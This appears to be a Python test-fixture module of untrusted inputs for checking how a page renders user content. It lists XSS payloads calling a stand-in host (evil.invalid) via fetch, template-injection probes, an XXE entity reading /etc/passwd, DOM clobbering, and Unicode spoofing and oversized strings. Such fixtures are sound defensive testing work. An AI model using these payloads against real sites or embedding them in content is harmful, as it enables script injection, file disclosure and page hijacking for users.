"""What a stranger may write where people will read it: markup, script, tricks of type and colour.

Whatever of it runs sets `window.pwned`, opens a dialog, or asks http://evil.invalid/.
"""

EVIL = "http://evil.invalid/"
RUN = f"window.pwned=1;alert(1);fetch('{EVIL}')"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt src={EVIL}x.js></sCrIpT>",
    "script split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image": f'<img src=x onerror="{RUN}">',
    "image without quotes": "<img src=x onerror=alert(1)>",
    "image elsewhere": f"<img src={EVIL}pixel.gif width=1>",
    "closes a quote": f'" autofocus onfocus="{RUN}" x="',
    "closes a single quote": f"' onmouseover='{RUN}' x='",
    "closes a title": f"</title><script>{RUN}</script>",
    "closes a text": f"</text></svg><script>{RUN}</script>",
    "closes a style": f"</style><script>{RUN}</script>",
    "closes a script": f'"}};</script><script>{RUN}</script>',
    "closes a comment": f"--><script>{RUN}</script><!--",
    "character data": f"]]><script>{RUN}</script>",
    "half a tag": f"<img src='{EVIL}?",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "double entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "svg": f"<svg onload={RUN}><set attributeName=href to=javascript:alert(1)>",
    "svg use": f"<svg><use href='{EVIL}x.svg#a'/></svg>",
    "foreign object": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "mathml": f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    "iframe": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object": f"<object data='{EVIL}x'></object><embed src='{EVIL}y'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base href='{EVIL}'>",
    "form": f"<form action='{EVIL}'><button autofocus>go</button></form>",
    "link": f"<link rel=stylesheet href='{EVIL}x.css'>",
    "style": f"<style>*{{display:none}}@import '{EVIL}x.css';</style>",
    "overlay": "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>gone</div>",
    "javascript link": "<a href='javascript:alert(1)'>read</a> javascript:alert(1)",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>read</a>",
    "Markdown": f"[read](javascript:alert(1)) ![x]({EVIL}pixel.gif) <{EVIL}> `code`",
    "jinja": "{{ 7 * 7 }} {{ config }} {% for x in ().__class__.__bases__ %}x{% endfor %}{# x #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{constructor.constructor('alert(1)')()}}",
    "processing": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "template tag": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "clobber": "<a id=mintBoard><a id=mintBoard name=systems href=x>",
}
"""Each is one line, so that it also goes where names go."""

SHOWN = {
    "turned": "safe \u202e}// neddih \u2066 evil \u2069\u202c",
    "isolates": "\u2067\u2067\u2067\u2067 right to left without end",
    "control characters": "a\x00b\x07c\x1b[2Jd\x9be\x08\x08\x08",
    "separators": "one\u2028two\u2029three",
    "piled marks": "Z" + "\u0310\u0352\u0321" * 400 + " algo",
    "huge word": "W" * 30_000,
    "huge text": "word " * 20_000,
    "many lines": "line\n" * 2_000,
    "unseen": "a\u200b\u2060\ufeff\u00adb\U000e0067\U000e0020",
    "wide": "\ufdfd" * 200,
}
"""Text that is not markup and could still spoof, hide or break a page."""
